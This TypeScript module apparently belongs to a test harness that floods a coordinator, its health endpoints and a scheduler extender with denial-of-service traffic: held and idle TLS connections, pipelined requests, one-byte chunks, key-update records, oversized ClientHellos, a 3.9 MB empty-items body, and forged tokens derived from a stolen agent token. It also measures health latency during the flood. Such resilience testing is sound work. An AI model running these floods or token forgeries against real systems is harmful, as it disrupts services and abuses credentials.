import { randomUUID } from 'node:crypto';
import { setTimeout as sleep } from 'node:timers/promises';
import { forgedToken, Held, largeReport, Thief } from './attacks.ts';
import { httpGet } from './http-get.ts';
import { METRICS_REQUEST, oneRead, pourAgain, TINY_CHUNKS, UNKNOWN_PATH_REQUEST } from './pipelining.ts';
import { clientHello, hello, holdHellos, pourRecords } from './tls-attacks.ts';

/**
 * Connections that finish their handshake, that never begin one, that ask for health once; two kinds of reports; requests
 * that do not wait for their answers, or go on after them; TLS records and ClientHellos, large, many or without content; and
 * questions to the scheduler extender, which is attacked where its URL is given.
 */
export const FLOOD_KINDS = [
  'idle handshakes',
  'silent connections',
  'kept health',
  'made-up tokens',
  'large reports',
  'pipelined metrics',
  'pipelined refusals',
  'refused chunks',
  'key updates',
  'large hellos',
  'constant hellos',
  'single-byte chunks',
  'empty items',
] as const;
export type FloodKind = (typeof FLOOD_KINDS)[number];

export type FloodOptions = {
  /** URL for reports to the coordinator. */
  reportsUrl: string;
  healthUrl: string;
  /** URL of the console, if it is attacked as well. */
  consoleUrl?: string;
  /** URL of the scheduler extender, which asks for no client certificate. */
  extenderUrl?: string;
  /** Health URL of an agent, if the agent is attacked as well. */
  agentHealthUrl?: string;
  /** Defaults to all at once. */
  kinds?: readonly FloodKind[];
  /** The token of one node's agent, which the attacker has. */
  stolen: { node: string; token: string };
};

/** What became of it all. */
export type FloodResult = {
  /** Answers to made-up tokens, by status; 0 where there was none. */
  madeUp: ReadonlyMap<number, number>;
  /** Answers to large reports with the stolen token. */
  stolen: ReadonlyMap<number, number>;
  /** Connections that were opened and kept, to the listeners for reports and for health. */
  connections: number;
  /** Slowest answer of /healthz, and how many were none, or none of status 200. */
  healthMs: number;
  unhealthy: number;
};

const EVERY_MS = 100;
/** Connections of each attack that writes as fast as it can, and for how long at a time. */
const POURING = 16;
const POUR_MS = 1000;
const HELLO_BYTES = 131_000;

/** A question whose body comes in chunks of one byte. */
const TINY_QUESTION = { ...TINY_CHUNKS, head: TINY_CHUNKS.head.replace(/POST \S+/, 'POST /scheduler/filter') };
/** A question of 3.9 MB about whole Nodes that are empty. */
const ITEMS = `{"Pod":{},"Nodes":{"items":[${'{},'.repeat(1_300_000)}{}]}}`;
const EMPTY_ITEMS = `POST /scheduler/predicates/gitpod HTTP/1.1\r\nhost: a\r\ncontent-type: application/json\r\ncontent-length: ${ITEMS.length}\r\n\r\n${ITEMS}`;

/** The same ClientHello, which causes a handshake that is not answered, again and again for {@link POUR_MS}. */
async function helloAgain(url: string, bytes: Buffer): Promise<void> {
  const endMs = performance.now() + POUR_MS;
  while (performance.now() < endMs) (await hello(url, bytes)).destroy();
}

/** Attacks, each again and again at once, until it is stopped. */
export class Flood {
  readonly #options: FloodOptions;
  readonly #stop = new AbortController();
  readonly #held = new Held();
  readonly #thief: Thief;
  readonly #madeUp = new Map<number, number>();
  readonly #stolen = new Map<number, number>();
  #connections = 0;
  #healthMs = 0;
  #unhealthy = 0;
  readonly #running: Promise<unknown>;

  constructor(options: FloodOptions) {
    this.#options = options;
    const { reportsUrl, healthUrl, consoleUrl, extenderUrl, agentHealthUrl, kinds = FLOOD_KINDS } = options;
    const tlsUrls = extenderUrl === undefined ? [reportsUrl] : [reportsUrl, extenderUrl];
    const extenderUrls = extenderUrl === undefined ? [] : [extenderUrl];
    const bytes = clientHello();
    const healthUrls = agentHealthUrl === undefined ? [healthUrl] : [healthUrl, agentHealthUrl];
    // To those without TLS, it is text that is no HTTP.
    const plainUrls = consoleUrl === undefined ? healthUrls : [...healthUrls, consoleUrl];
    this.#thief = new Thief(reportsUrl, 1);
    const open = (kind: 'idleTls' | 'silent' | 'keepPlain', url: string, count: number) => async () => {
      this.#connections += count;
      await this.#held[kind](url, count);
    };
    const attacks: Record<FloodKind, () => Promise<unknown>> = {
      'idle handshakes': open('idleTls', reportsUrl, 10),
      'silent connections': open('silent', reportsUrl, 30),
      'kept health': () => Promise.all(healthUrls.map((url) => open('keepPlain', url, 20)())),
      'made-up tokens': () => this.#makeUp(),
      'large reports': () => this.#sendLarge(),
      'pipelined metrics': () =>
        Promise.all(healthUrls.map((url) => this.#pour(url, { body: oneRead(METRICS_REQUEST) }))),
      'pipelined refusals': () => this.#pour(reportsUrl, { body: oneRead(UNKNOWN_PATH_REQUEST) }),
      'refused chunks': () => this.#pour(reportsUrl, TINY_CHUNKS),
      'key updates': () =>
        Promise.all(
          tlsUrls.flatMap((url) => Array.from({ length: 20 }, () => pourRecords(url, 'key updates', POUR_MS))),
        ),
      'large hellos': () =>
        Promise.all([
          ...tlsUrls.map((url) => holdHellos(url, 2000, HELLO_BYTES)),
          ...plainUrls.map((url) => holdHellos(url, 200, HELLO_BYTES)),
        ]),
      'constant hellos': () =>
        Promise.all(tlsUrls.flatMap((url) => Array.from({ length: 200 }, () => helloAgain(url, bytes)))),
      'single-byte chunks': () => Promise.all(extenderUrls.map((url) => this.#pour(url, TINY_QUESTION))),
      'empty items': () => Promise.all(extenderUrls.map((url) => this.#pour(url, { head: EMPTY_ITEMS, body: '' }))),
    };
    const running = [...kinds.map((kind) => attacks[kind]), () => this.#askHealth()];
    this.#running = Promise.all(running.map((attack) => this.#again(attack)));
  }

  async stop(): Promise<FloodResult> {
    this.#stop.abort();
    this.#held.drop();
    await this.#running;
    this.#thief.close();
    return {
      madeUp: this.#madeUp,
      stolen: this.#stolen,
      connections: this.#connections,
      healthMs: this.#healthMs,
      unhealthy: this.#unhealthy,
    };
  }

  async #again(attack: () => Promise<unknown>): Promise<void> {
    const { signal } = this.#stop;
    while (!signal.aborted) {
      await attack();
      await sleep(EVERY_MS);
    }
  }

  async #pour(url: string, what: { head?: string; body: string }): Promise<void> {
    await pourAgain(url, what, { connections: POURING, forMs: POUR_MS });
  }

  async #makeUp(): Promise<void> {
    const { reportsUrl, stolen } = this.#options;
    const thief = new Thief(reportsUrl, 4);
    const tokens = Array.from({ length: 20 }, (_, index) =>
      index % 2 === 0 ? randomUUID() : forgedToken(stolen.token, { jti: randomUUID() }),
    );
    add(this.#madeUp, await thief.flood(tokens, { node: stolen.node, boot: 'x', sequence: 1, digest: 'd' }));
    thief.close();
  }

  async #sendLarge(): Promise<void> {
    const { stolen } = this.#options;
    const report = largeReport(stolen.node, Date.now());
    add(this.#stolen, await this.#thief.flood([stolen.token], report));
  }

  async #askHealth(): Promise<void> {
    const startMs = performance.now();
    const answer = await httpGet(`${this.#options.healthUrl}/healthz`).catch(() => undefined);
    if (answer?.status !== 200) this.#unhealthy += 1;
    this.#healthMs = Math.max(this.#healthMs, performance.now() - startMs);
  }
}

function add(sum: Map<number, number>, more: ReadonlyMap<number, number>): void {
  for (const [status, count] of more) sum.set(status, (sum.get(status) ?? 0) + count);
}
